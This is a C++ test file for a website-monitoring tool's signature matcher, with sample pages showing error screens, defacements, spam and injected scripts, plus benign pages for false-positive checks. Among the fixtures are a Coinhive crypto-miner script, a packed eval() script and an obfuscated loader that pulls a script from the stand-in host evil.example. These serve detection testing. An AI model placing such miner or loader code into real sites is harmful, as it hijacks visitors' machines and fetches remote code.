#include "checks/signatures/signature_matcher.h"

#include <algorithm>
#include <catch2/catch.hpp>
#include <string>
#include <vector>

#include "checks/signatures/signature.h"
#include "checks/signatures/signature_check.h"

using namespace sitewatch;
using namespace sitewatch::checks;

namespace {

std::string page(const std::string& title, const std::string& body) {
    return "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>" +
           title +
           "</title>\n<link rel=\"stylesheet\" href=\"/assets/site.css?v=3\">\n</head>\n<body>\n" +
           body + "\n</body>\n</html>\n";
}

std::vector<std::string> ids(const std::vector<SignatureMatch>& matches) {
    std::vector<std::string> out;
    for (const auto& m : matches) out.push_back(m.id);
    return out;
}

bool has(const std::vector<SignatureMatch>& matches, const std::string& id) {
    return std::any_of(matches.begin(), matches.end(),
                       [&](const SignatureMatch& m) { return m.id == id; });
}

struct Sample {
    const char* id;
    std::string body;
};

// A realistic page for every signature in the library, written the way the real thing is.
std::vector<Sample> samples() {
    return {
        {"wordpress_critical_error",
         "<!DOCTYPE html>\n<html dir='ltr'>\n<head>\n<meta name=\"viewport\" "
         "content=\"width=device-width\">\n<title>WordPress &rsaquo; Error</title>\n</head>\n"
         "<body id=\"error-page\">\n<div class=\"wp-die-message\"><p>There has been a critical "
         "error on this website.</p><p><a href=\"https://wordpress.org/documentation/article/"
         "faq-troubleshooting/\">Learn more about troubleshooting WordPress.</a></p></div></body>"
         "\n</html>"},
        {"wordpress_database_error",
         page("Database Error", "<h1>Error establishing a database connection</h1>")},
        {"wordpress_maintenance",
         page("Maintenance",
              "<p>Briefly unavailable for scheduled maintenance. Check back in a minute.</p>")},
        {"php_fatal_error",
         "<br />\n<b>Fatal error</b>:  Uncaught Error: Call to undefined function "
         "mysql_connect() in /var/www/html/wp-includes/db.php:1531\nStack trace:\n#0 "
         "/var/www/html/index.php(17): require_once()\n#1 {main}\n  thrown in "
         "<b>/var/www/html/wp-includes/db.php</b> on line <b>1531</b><br />\n"},
        {"php_fatal_error_text",
         "PHP Fatal error:  Uncaught TypeError: count(): Argument #1 ($value) must be of type "
         "Countable|array, null given in /srv/app/src/Cart.php:88\n"},
        {"php_warning",
         "<br />\n<b>Warning</b>:  Undefined array key \"lang\" in "
         "<b>/var/www/html/wp-content/themes/acme/header.php</b> on line <b>12</b><br />\n" +
             page("Acme Corp", "<h1>Welcome to Acme</h1>")},
        {"drupal_error",
         page("Error | Acme",
              "<p>The website encountered an unexpected error. Try again later.</p>")},
        {"drupal_maintenance",
         page("Site under maintenance | Acme",
              "<main><h1>Site under maintenance</h1><div>Acme is currently under maintenance. "
              "We should be back shortly. Thank you for your patience.</div></main>")},
        {"joomla_offline",
         page("Acme Corp",
              "<div id=\"frame\" class=\"outline\"><p>This site is down for maintenance.<br>"
              "Please check back again soon.</p></div>")},
        {"joomla_error",
         page("404 - Article not found",
              "<div id=\"errorboxheader\">404 - Article not found</div><div "
              "id=\"errorboxbody\"><p><strong>You may not be able to visit this page because "
              "of:</strong></p><ol><li>an out-of-date bookmark/favourite</li></ol></div>")},
        {"magento_error",
         page("There has been an error processing your request",
              "<div id=\"main\"><h1>There has been an error processing your request</h1><p>"
              "Exception printing is disabled by default for security reasons.</p><p>Error log "
              "record number: 1473869154</p></div>")},
        {"laravel_whoops", page("Error",
                                "<div class=\"content\"><div class=\"title\">Whoops, looks like "
                                "something went wrong.</div></div>")},
        {"laravel_ignition",
         "<!doctype html>\n<html class=\"theme-light\">\n<head>\n<meta charset=\"UTF-8\">\n"
         "<title>\xF0\x9F\xA7\xA8 SQLSTATE[HY000] [2002] Connection refused</title>\n</head>\n"
         "<body><div id=\"app\"></div></body></html>"},
        {"framework_exception_trace",
         page("Server Error",
              "<div class=\"exception\">Illuminate\\Database\\QueryException</div>")},
        {"django_debug",
         page("OperationalError at /",
              "<div id=\"summary\"><h1>OperationalError at /</h1><table class=\"meta\"><tr>"
              "<th>Django Version:</th><td>4.2.7</td></tr></table></div><div "
              "id=\"traceback\"><h2>Traceback <span class=\"commands\">Switch to copy-and-paste "
              "view</span></h2></div><div id=\"explanation\"><p>You’re seeing this error "
              "because you have <code>DEBUG = True</code> in your Django settings "
              "file.</p></div>")},
        {"django_server_error", page("Server Error (500)", "<h1>Server Error (500)</h1><p></p>")},
        {"python_traceback",
         page("Internal error",
              "<pre>Traceback (most recent call last):\n  File \"/srv/app/main.py\", line 42, "
              "in handler\nKeyError: 'user'</pre>")},
        {"rails_error",
         page("We're sorry, but something went wrong (500)",
              "<div class=\"dialog\"><div><h1>We're sorry, but something went wrong.</h1></div>"
              "<p>If you are the application owner check the logs for more "
              "information.</p></div>")},
        {"aspnet_error",
         page("Runtime Error",
              "<span><H1>Server Error in '/' Application.<hr width=100% size=1 color=silver>"
              "</H1><h2> <i>Runtime Error</i> </h2></span>")},
        {"iis_error", page("Service Unavailable",
                           "<h2>Service Unavailable</h2><hr><p>HTTP Error 503. The service is "
                           "unavailable.</p>")},
        {"spring_whitelabel",
         page("Error",
              "<h1>Whitelabel Error Page</h1><p>This application has no explicit "
              "mapping for /error, so you are seeing this as a fallback.</p>")},
        {"tomcat_error",
         page("HTTP Status 500 – Internal Server Error",
              "<h1>HTTP Status 500 – Internal Server Error</h1><hr class=\"line\" />")},
        {"express_no_route", page("Error", "<pre>Cannot GET /</pre>")},
        {"sql_error",
         page("Acme Shop",
              "<div>You have an error in your SQL syntax; check the manual that corresponds "
              "to your MySQL server version for the right syntax to use near '' at line "
              "1</div>")},
        {"server_error_title", page("500 | Server Error",
                                    "<div class=\"flex-center\"><div class=\"code\">500</div><div "
                                    "class=\"message\">Server Error</div></div>")},
        {"nginx_error",
         "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 "
         "Bad Gateway</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n"
         "</html>\r\n"},
        {"apache_error",
         page("500 Internal Server Error",
              "<h1>Internal Server Error</h1>\n<p>The server encountered an internal error or\n"
              "misconfiguration and was unable to complete\nyour request.</p>")},
        {"varnish_error",
         "<!DOCTYPE html>\n<html>\n  <head>\n    <title>503 Backend fetch failed</title>\n  "
         "</head>\n  <body>\n    <h1>Error 503 Backend fetch failed</h1>\n    <p>Backend fetch "
         "failed</p>\n    <h3>Guru Meditation:</h3>\n    <p>XID: 32770</p>\n    <hr>\n    "
         "<p>Varnish cache server</p>\n  </body>\n</html>\n"},
        {"cloudfront_error",
         "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">\n<HTML><HEAD><META "
         "HTTP-EQUIV=\"Content-Type\" CONTENT=\"text/html; charset=iso-8859-1\">\n<TITLE>ERROR: "
         "The request could not be satisfied</TITLE>\n</HEAD><BODY>\n<H1>502 ERROR</H1>\n<H2>The "
         "request could not be satisfied.</H2>\n<HR noshade size=\"1px\">\nGenerated by "
         "cloudfront (CloudFront)\n</BODY></HTML>"},
        {"fastly_error",
         "<html><head><title>Fastly error: unknown domain acme.example</title></head><body>"
         "<p>Fastly error: unknown domain: acme.example. Please check that this domain has been "
         "added to a service.</p></body></html>"},
        {"cloudflare_gateway_error",
         page("acme.example | 502: Bad gateway",
              "<div id=\"cf-wrapper\"><div id=\"cf-error-details\" class=\"p-0\"><header><h1>"
              "<span class=\"inline-block\">Bad gateway</span><span "
              "class=\"code-label\">Error code 502</span></h1></header></div></div>")},
        {"cloudflare_origin_error",
         page("acme.example | 521: Web server is down",
              "<div id=\"cf-wrapper\"><div id=\"cf-error-details\" class=\"p-0\"><header><h1>"
              "<span class=\"inline-block\">Web server is down</span><span "
              "class=\"code-label\">Error code 521</span></h1></header></div></div>")},
        {"cloudflare_block",
         page("Access denied | acme.example used Cloudflare to restrict access",
              "<div id=\"cf-wrapper\"><div id=\"cf-error-details\"><h1><span "
              "class=\"cf-error-type\">Error</span> <span class=\"cf-error-code\">1020</span>"
              "</h1></div></div>")},
        {"akamai_block",
         "<HTML><HEAD>\n<TITLE>Access Denied</TITLE>\n</HEAD><BODY>\n<H1>Access Denied</H1>\n"
         " \nYou don't have permission to access \"http&#58;&#47;&#47;acme&#46;example&#47;\" "
         "on this server.<P>\nReference&#32;&#35;18&#46;6f7d3e17&#46;1700000000&#46;1a2b3c4d\n"
         "</BODY>\n</HTML>\n"},
        {"hosting_suspended",
         page("Account Suspended",
              "<h1>This Account has been suspended.</h1><p>Contact your hosting provider for "
              "more information.</p>")},
        {"nginx_welcome",
         "<!DOCTYPE html>\n<html>\n<head>\n<title>Welcome to nginx!</title>\n<style>\nhtml { "
         "color-scheme: light dark; }\n</style>\n</head>\n<body>\n<h1>Welcome to nginx!</h1>\n"
         "<p>If you see this page, the nginx web server is successfully installed and\nworking. "
         "Further configuration is required.</p>\n</body>\n</html>\n"},
        {"apache_default_page",
         page("Apache2 Debian Default Page: It works",
              "<div class=\"main_page\"><div class=\"page_header floating_element\"><span "
              "class=\"floating_element\">Apache2 Debian Default Page</span></div></div>")},
        {"iis_welcome",
         "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\">\n<html "
         "xmlns=\"http://www.w3.org/1999/xhtml\">\n<head>\n<meta http-equiv=\"Content-Type\" "
         "content=\"text/html; charset=iso-8859-1\" />\n<title>IIS Windows Server</title>\n"
         "</head>\n<body>\n<div id=\"container\">\n<a href=\"http://go.microsoft.com/fwlink/"
         "?linkid=66138&amp;clcid=0x409\"><img src=\"iisstart.png\" alt=\"IIS\" width=\"960\" "
         "height=\"600\" /></a>\n</div>\n</body>\n</html>"},
        {"parked_domain",
         page("acme-widgets.example",
              "<div class=\"parking\"><h1>acme-widgets.example</h1><p>This domain may be for "
              "sale. Make an offer.</p></div>")},
        {"template_statement",
         page("Acme Corp",
              "<ul class=\"news\">{% for post in posts %}<li>{{ post.title }}</li>{% endfor "
              "%}</ul>")},
        {"template_erb", page("Acme Corp", "<h1>Welcome, <%= current_user.name %></h1>")},
        {"template_expression",
         page("Acme Corp", "<h1>{{ page.title }}</h1><p>{{ page.intro | safe }}</p>")},
        {"directory_listing",
         "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 3.2 Final//EN\">\n<html>\n <head>\n  "
         "<title>Index of /</title>\n </head>\n <body>\n<h1>Index of /</h1>\n  <table>\n   "
         "<tr><th><a href=\"?C=N;O=D\">Name</a></th></tr>\n<tr><td><a "
         "href=\"backup.zip\">backup.zip</a></td></tr>\n</table>\n</body></html>\n"},
        {"raw_php_source",
         "<?php\n/**\n * Front to the WordPress application.\n */\ndefine( 'WP_USE_THEMES', true "
         ");\nrequire __DIR__ . '/wp-blog-header.php';\n"},
        {"raw_server_source",
         "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" CodeBehind=\"Default.aspx.cs\" "
         "Inherits=\"Acme.Default\" %>\n<!DOCTYPE html>\n<html><body><form "
         "runat=\"server\"></form></body></html>"},
        {"deface_title",
         page("Hacked By Mr.X", "<center><img src=\"https://i.imgur.com/x.gif\"></center>")},
        {"deface_marquee", page("Acme Corp",
                                "<marquee behavior=\"alternate\"><font color=\"red\">HACKED BY "
                                "GHOST TEAM</font></marquee>")},
        {"deface_this_site", page("Acme Corp",
                                  "<h1 style=\"color:red\">This Website Has Been Defaced By "
                                  "Anon</h1>")},
        {"spam_title", page("Rolex Replica Watches | Cheap Swiss Replica Watches UK",
                            "<p>Best replica watches online</p>")},
        {"deface_heading", page("Acme Corp",
                                "<body bgcolor=\"black\"><h1><font color=\"red\">Defaced by "
                                "CyberGhost</font></h1>")},
        {"deface_hacked_by",
         page("Acme Corp", "<p>hacked by Mr.Joker, your admin is sleeping</p>")},
        {"deface_leet", page("Acme Corp", "<p>SiTe H4CK3D lol</p>")},
        {"deface_greetz", page("Acme Corp", "<p>Greetz: all members of the crew</p>")},
        {"deface_taunt", page("Acme Corp", "<h2>Your security is low, admin</h2>")},
        {"deface_title_intl", page("Diretas oleh Garuda Cyber", "<p>Garuda</p>")},
        {"deface_ru", page("Acme", "<h1>Ваш сайт взломан!</h1>")},
        {"deface_id", page("Acme", "<h1>Situs ini telah diretas</h1>")},
        {"deface_tr", page("Acme", "<h1>Turk Hack Team tarafından hacklendi</h1>")},
        {"deface_pt", page("Acme", "<h1>Site hackeado por Anonymous Brasil</h1>")},
        {"deface_ar", page("Acme", "<h1>تم اختراق الموقع</h1>")},
        {"crypto_miner_script",
         page("Acme Corp", "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>")},
        {"crypto_miner_api",
         page("Acme Corp",
              "<script>var miner = new CoinHive.Anonymous('SITEKEY', {throttle: "
              "0.3}); miner.start();</script>")},
        {"packed_script",
         page("Acme Corp",
              "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,"
              "String)){while(c--){d[c]=k[c]||c}}return p}('0.1(\"2\")',3,3,'document|write|x'"
              ".split('|'),0,{}))</script>")},
        {"obfuscated_script", page("Acme Corp",
                                   "<script>document.write(unescape('%3Cscript%20src%3D%22"
                                   "%2F%2Fevil.example%2Fj.js%22%3E%3C%2Fscript%3E'));</script>")},
        {"pharma_spam_link", page("Acme Corp",
                                  "<div style=\"display:none\"><a href=\"https://rx.example/\">buy "
                                  "viagra</a> <a href=\"https://rx.example/c\">cialis</a></div>")},
        {"pharma_spam_text",
         page("Acme Corp", "<p>Best prices: order cialis without prescription today</p>")},
        {"gambling_spam_id", page("Acme Corp",
                                  "<div style=\"position:absolute;left:-9999px\">Slot gacor hari "
                                  "ini, situs judi terpercaya</div>")},
        {"gambling_spam_cjk",
         page("Acme Corp", "<div class=\"hidden\">카지노사이트 추천 바카라사이트</div>")},
        {"casino_spam_en",
         page("Acme Corp", "<p>Claim free spins no deposit at the best online casinos</p>")},
        {"gambling_terms_id",
         page("Acme Corp",
              "<div style=\"display:none\"><a href=\"https://x.example/\">judi "
              "online</a></div>")},
        {"gambling_spam_zh", page("Acme Corp",
                                  "<div class=\"hide\"><a href=\"https://x.example/\">时时彩平台"
                                  "</a></div>")},
        {"japanese_keyword_spam",
         page("ルイヴィトン スーパーコピー 激安通販", "<h1>ブランドコピー N級品</h1>")},
    };
}

// Pages that must raise nothing: they talk about errors and hacks, quote stock pages in
// prose, or carry the markup that the patterns are anchored away from.
std::vector<std::pair<const char*, std::string>> benign_pages() {
    return {
        {"a blog post about PHP errors",
         page("How to fix PHP errors in WordPress | Acme Blog",
              "<article><h1>How to fix PHP errors in WordPress</h1><p>If you see a Fatal error "
              "or a Parse error, or the message that there has been a critical error on this "
              "website, check the error log. A <b>Warning</b>: is less serious than a "
              "<b>Fatal error</b>: and usually harmless.</p><h2>How to Fix Error Establishing a "
              "Database Connection</h2><p>Check wp-config.php.</p><pre><code>&lt;?php\n"
              "define('DB_HOST', 'localhost');</code></pre></article>")},
        {"a shop",
         page("Acme Shop — Garden tools",
              "<header><nav><a href=\"/\">Home</a><a href=\"/cart\">Cart (0)</a></nav></header>"
              "<main><h1>Garden tools</h1><ul class=\"grid\"><li><a href=\"/p/spade\">Spade</a>"
              " <span class=\"price\">€24.90</span></li><li>Owned by gardeners since 1952</li>"
              "</ul><form action=\"/search\"><input name=\"q\"><input type=\"hidden\" "
              "name=\"csrf\" value=\"a8f0c1\"></form></main><footer>© 2026 Acme Shop, owned by "
              "Acme Holdings</footer><script src=\"/assets/app.js?v=99\"></script>")},
        {"a company page",
         page("Acme Corp — About us",
              "<main><h1>About Acme</h1><p>Acme is a family-owned business. Our servers are "
              "monitored around the clock; we're sorry, but something went wrong is not a "
              "sentence our customers read.</p><p>Our security team was here to help when a "
              "partner was hacked last year.</p><p>Special thanks to our partners.</p></main>")},
        {"a page that says it works in a sentence",
         page("Acme Corp — How it works",
              "<h1>How it works</h1><p>It works! Sign up, choose a plan, and you're done.</p>"
              "<p>Index of /products is on the left.</p>")},
        {"a news article about a defacement",
         page("Regional news — City website defaced",
              "<article><h1>City website defaced over the weekend</h1><p>The city's website "
              "was defaced on Saturday; officials said the attackers have been identified. "
              "Security researchers said the site had been hacked through an old plugin.</p>"
              "<p>The statue in the park was also damaged by vandals.</p></article>")},
        {"a Python tutorial without a traceback",
         page("Learn Python — Exceptions",
              "<p>An exception shows a traceback. Read it from the bottom up.</p><pre>try:\n"
              "    main()\nexcept KeyError:\n    pass</pre>")},
        {"a page with a modern script stack",
         page("Acme Corp",
              "<div id=\"app\" data-v-app></div><script type=\"module\" "
              "src=\"/assets/index-4f3a.js\"></script><script>window.dataLayer = "
              "window.dataLayer || []; function gtag(){dataLayer.push(arguments);}</script>"
              "<style>@keyframes spin{0%{transform:rotate(0)}100%{transform:rotate(1turn)}}"
              "</style>")},
        {"a pharmacy-news page mentioning drugs in prose",
         page("Health news",
              "<p>Regulators warn against anyone who tries to buy viagra from unlicensed "
              "sellers; casinos and online betting are regulated separately.</p>")},
        {"a company footer that says who owns the site",
         page("Smith & Sons — family owned by the Smiths",
              "<h1>Owned by the Smith family since 1920</h1><footer>This site is owned and "
              "operated by Smith &amp; Sons Ltd. This website is owned by Smith Holdings."
              "</footer>")},
        {"a Magento storefront with its translations inline",
         page("Acme Store",
              "<script type=\"text/x-magento-init\">{\"*\":{\"mage/translate-init\":{"
              "\"dictionary\":{\"There has been an error processing your request\":\"Bei der "
              "Bearbeitung ist ein Fehler aufgetreten\"}}}}</script>")},
        {"a help page about suspended accounts",
         page("Help — Billing",
              "<h2>What happens when this account has been suspended?</h2><p>You can still "
              "export your data.</p>")},
        {"a Hong Kong news page about the lottery and casinos",
         page("新聞", "<p>六合彩 攪珠結果 公布。澳門賭場收入上升。</p>")},
        {"a WordPress blog home page",
         "<!DOCTYPE html>\n<html lang=\"en-US\">\n<head>\n<meta charset=\"UTF-8\">\n<title>"
         "Acme Blog &#8211; Notes on widgets</title>\n<meta name='robots' content='max-image-"
         "preview:large' />\n<link rel='dns-prefetch' href='//fonts.googleapis.com' />\n"
         "<script>window._wpemojiSettings = {\"baseUrl\":\"https:\\/\\/s.w.org\\/images\\/"
         "core\\/emoji\\/15.0.3\\/72x72\\/\"};!function(i,n){function o(e,t){var a=String."
         "fromCharCode.apply(null,e);return a}function s(e){return o([55356,56826,55356,56819])}"
         "}(window,document);</script>\n<link rel='stylesheet' id='wp-block-library-css' "
         "href='https://blog.acme.example/wp-includes/css/dist/block-library/style.min.css?ver="
         "6.5.2' media='all' />\n<link rel=\"https://api.w.org/\" href=\"https://blog.acme."
         "example/wp-json/\" />\n<script type=\"application/ld+json\">{\"@context\":\"https:"
         "//schema.org\",\"@type\":\"Blog\",\"name\":\"Acme Blog\"}</script>\n</head>\n<body "
         "class=\"home blog wp-embed-responsive\">\n<header class=\"wp-block-template-part\">"
         "<p class=\"wp-block-site-title\"><a href=\"https://blog.acme.example\" rel=\"home\">"
         "Acme Blog</a></p><form role=\"search\" method=\"get\" action=\"https://blog.acme."
         "example/\"><input type=\"search\" name=\"s\"></form></header>\n<main>\n<!-- "
         "wp:query -->\n<article class=\"post-42 post type-post status-publish\"><h2 "
         "class=\"wp-block-post-title\"><a href=\"/2026/11/fixing-a-hacked-site/\">What we "
         "learned fixing a hacked WordPress site</a></h2><div class=\"wp-block-post-excerpt\">"
         "<p>Last month a client called: their site showed a database error and then a page "
         "that said it had been defaced. Here is how we cleaned it up &hellip;</p></div><time "
         "datetime=\"2026-11-20T09:12:44+00:00\">November 20, 2026</time> <a href=\"/2026/11/"
         "fixing-a-hacked-site/#comments\">12 Comments</a></article>\n<!-- /wp:query -->\n"
         "</main>\n<footer><p>Proudly powered by WordPress</p></footer>\n<script "
         "src='https://blog.acme.example/wp-includes/js/jquery/jquery.min.js?ver=3.7.1' "
         "id='jquery-core-js'></script>\n<script async src=\"https://www.googletagmanager.com/"
         "gtag/js?id=G-ABC123\"></script>\n</body>\n</html>\n"},
        {"a status page that lists incidents",
         page("Acme Status",
              "<h1>All systems operational</h1><ul><li>Resolved: 502 Bad Gateway errors on the "
              "API</li><li>Resolved: Service Unavailable for some users</li></ul>")},
    };
}

}  // namespace

TEST_CASE("every built-in signature compiles and has a unique id", "[signatures]") {
    const SignatureMatcher& m = SignatureMatcher::builtin();
    CHECK(m.errors().empty());
    for (const auto& e : m.errors()) INFO(e);
    CHECK(m.size() == builtin_signatures().size());
    std::vector<std::string_view> seen;
    for (const Signature& s : builtin_signatures()) {
        INFO(s.id);
        CHECK(std::find(seen.begin(), seen.end(), s.id) == seen.end());
        CHECK_FALSE(s.summary.empty());
        CHECK_FALSE(s.source.empty());
        seen.push_back(s.id);
    }
}

TEST_CASE("every built-in signature has a sample page in this test", "[signatures]") {
    const auto all = samples();
    for (const Signature& s : builtin_signatures()) {
        INFO(s.id);
        CHECK(std::any_of(all.begin(), all.end(), [&](const Sample& x) { return x.id == s.id; }));
    }
}

TEST_CASE("each sample page triggers its signature with the row's condition", "[signatures]") {
    for (const Sample& sample : samples()) {
        INFO(sample.id);
        const auto matches = SignatureMatcher::builtin().match(sample.body);
        INFO("matched: " << Catch::Detail::stringify(ids(matches)));
        REQUIRE(has(matches, sample.id));
        const auto it = std::find_if(matches.begin(), matches.end(),
                                     [&](const SignatureMatch& m) { return m.id == sample.id; });
        const Signature* sig = find_signature(sample.id);
        REQUIRE(sig != nullptr);
        CHECK(it->condition == sig->condition);
        CHECK(it->severity == sig->severity);
        CHECK(it->strength == sig->strength);
        CHECK(it->tier == sig->tier);
        CHECK_FALSE(it->excerpt.empty());
        CHECK(it->excerpt.find('\n') == std::string::npos);
        CHECK(it->excerpt.size() <= 130);
    }
}

TEST_CASE("benign pages that talk about errors and hacks trigger no signature", "[signatures]") {
    for (const auto& [name, body] : benign_pages()) {
        INFO(name);
        const auto matches = SignatureMatcher::builtin().match(body);
        INFO("matched: " << Catch::Detail::stringify(ids(matches)));
        CHECK(matches.empty());
    }
}

TEST_CASE("Indonesian news against online gambling is at most a weak signal", "[signatures]") {
    const auto matches = SignatureMatcher::builtin().match(
        page("Berita",
             "<h1>Pemerintah blokir ribuan situs judi online</h1><p>Kementerian "
             "memblokir situs judi dan menindak bandar.</p>"));
    REQUIRE_FALSE(matches.empty());
    for (const auto& m : matches) {
        INFO(m.id);
        CHECK(m.strength == SignatureStrength::weak);
        CHECK(m.tier == SignatureTier::if_new);
    }
}

TEST_CASE("the conditions follow the contract", "[signatures]") {
    CHECK(find_signature("wordpress_critical_error")->condition == Condition::error);
    CHECK(find_signature("php_fatal_error")->condition == Condition::error);
    CHECK(find_signature("nginx_welcome")->condition == Condition::malformed);
    CHECK(find_signature("template_statement")->condition == Condition::malformed);
    CHECK(find_signature("directory_listing")->condition == Condition::security);
    CHECK(find_signature("raw_php_source")->condition == Condition::security);
    CHECK(find_signature("deface_title")->condition == Condition::defaced);
    CHECK(find_signature("crypto_miner_script")->condition == Condition::defaced);
    CHECK(find_signature("cloudflare_origin_error")->condition == Condition::down);
    CHECK(find_signature("deface_title")->tier == SignatureTier::if_new);
    CHECK(find_signature("php_fatal_error")->tier == SignatureTier::always);
    CHECK(find_signature("no_such_signature") == nullptr);
}

TEST_CASE("a match carries the excerpt around it on one line", "[signatures]") {
    const std::string body = page("Acme Corp", std::string(400, 'x') +
                                                   "\n<p>There has been a critical error on "
                                                   "this website.</p>\n" +
                                                   std::string(400, 'y'));
    const auto matches = SignatureMatcher::builtin().match(body);
    REQUIRE(ids(matches) == std::vector<std::string>{"wordpress_critical_error"});
    const SignatureMatch& m = matches.front();
    CHECK(m.matched == "<p>There has been a critical error on this website.");
    CHECK(m.excerpt.find("critical error on this website") != std::string::npos);
    CHECK(m.excerpt.starts_with("…"));
    CHECK(m.excerpt.ends_with("…"));
    CHECK(m.excerpt.find('\n') == std::string::npos);
    CHECK(m.summary == "WordPress critical error page");
}

TEST_CASE("only the first MiB of the body is read", "[signatures]") {
    std::string body(SignatureMatcher::kMaxBodyBytes, ' ');
    body += "<h1>Error establishing a database connection</h1>";
    CHECK(SignatureMatcher::builtin().match(body).empty());
    body.insert(0, "<h1>Error establishing a database connection</h1>");
    CHECK(has(SignatureMatcher::builtin().match(body), "wordpress_database_error"));
}

TEST_CASE("invalid UTF-8 in the body neither breaks matching nor leaks into the excerpt",
          "[signatures]") {
    const std::string body = "\xC3\x28\xFF\xFE <title>Hacked by \xE2\x82 x</title>\xF0\x9F";
    const auto matches = SignatureMatcher::builtin().match(body);
    REQUIRE(has(matches, "deface_title"));
    for (const auto& m : matches) {
        CHECK(m.excerpt.find("\xFF") == std::string::npos);
        CHECK(m.excerpt.find("\xEF\xBF\xBD") != std::string::npos);  // U+FFFD marks them
    }
}

TEST_CASE("a library pattern that does not compile is reported and left out", "[signatures]") {
    const Signature bad[] = {
        {"broken", Condition::error, Severity::critical, SignatureStrength::strong,
         SignatureTier::always, "(unclosed", "broken", "test"},
        {"fine", Condition::error, Severity::critical, SignatureStrength::strong,
         SignatureTier::always, "oops", "fine", "test"},
    };
    const SignatureMatcher m(bad);
    REQUIRE(m.errors().size() == 1);
    CHECK(m.errors().front().starts_with("broken: "));
    CHECK(m.size() == 1);
    CHECK(ids(m.match("OOPS")) == std::vector<std::string>{"fine"});
}

TEST_CASE("signature findings name the rule and quote the match", "[signatures]") {
    const auto findings = check_signatures(
        page("Acme Corp", "<h1>Error establishing a database connection</h1>"), {});
    REQUIRE(findings.size() == 1);
    const Finding& f = findings.front();
    CHECK(f.condition == Condition::error);
    CHECK(f.severity == Severity::critical);
    CHECK(f.check == "signature");
    CHECK(f.evidence.rule == "signature.wordpress_database_error");
    CHECK(f.summary ==
          "WordPress cannot reach its database: “Error establishing a database connection”");
    CHECK(f.evidence.after == "<h1>Error establishing a database connection</h1>");
    CHECK(f.evidence.excerpt.find("Error establishing") != std::string::npos);
}

TEST_CASE("a defacement phrase the baseline already had is not reported", "[signatures]") {
    const std::string body = page("Hacked by Mr.X", "<p>Greetz to the crew</p>");
    const auto matches = SignatureMatcher::builtin().match(body);
    REQUIRE(has(matches, "deface_title"));
    REQUIRE(has(matches, "deface_greetz"));

    SECTION("without a baseline both are reported") {
        CHECK(check_signatures(matches, {}).size() == matches.size());
    }
    SECTION("the baseline's phrases are dropped, the rest stay") {
        const auto findings = check_signatures(matches, SignatureIds{"deface_greetz"});
        REQUIRE(findings.size() == matches.size() - 1);
        for (const auto& f : findings) CHECK(f.evidence.rule != "signature.deface_greetz");
    }
}

TEST_CASE("an always-tier signature is reported even if the baseline had it", "[signatures]") {
    const auto findings =
        check_signatures(page("Acme", "<h1>Error establishing a database connection</h1>"),
                         SignatureIds{"wordpress_database_error"});
    REQUIRE(findings.size() == 1);
    CHECK(findings.front().evidence.rule == "signature.wordpress_database_error");
}

TEST_CASE("a weak signature alone is a warning, a strong one keeps its severity", "[signatures]") {
    const auto weak = check_signatures(page("Acme", "<p>Greetz to the crew</p>"), {});
    REQUIRE(weak.size() == 1);
    CHECK(weak.front().condition == Condition::defaced);
    CHECK(weak.front().severity == Severity::warning);

    // The title phrase also reads as the weak "hacked by" in text; each keeps its own.
    const auto both = check_signatures(page("Hacked by Mr.X", "<p>x</p>"), {});
    REQUIRE(both.size() == 2);
    CHECK(both[0].evidence.rule == "signature.deface_title");
    CHECK(both[0].severity == Severity::critical);
    CHECK(both[1].evidence.rule == "signature.deface_hacked_by");
    CHECK(both[1].severity == Severity::warning);
}

TEST_CASE("a baseline records only the if_new signatures of a healthy page", "[signatures]") {
    const auto matches = SignatureMatcher::builtin().match(
        page("Security blog",
             "<p>Greetz from the conference</p><pre>Traceback (most recent "
             "call last):</pre><h1>Error establishing a database "
             "connection</h1>"));
    CHECK(baseline_signature_ids(matches) == SignatureIds{"deface_greetz", "python_traceback"});
}
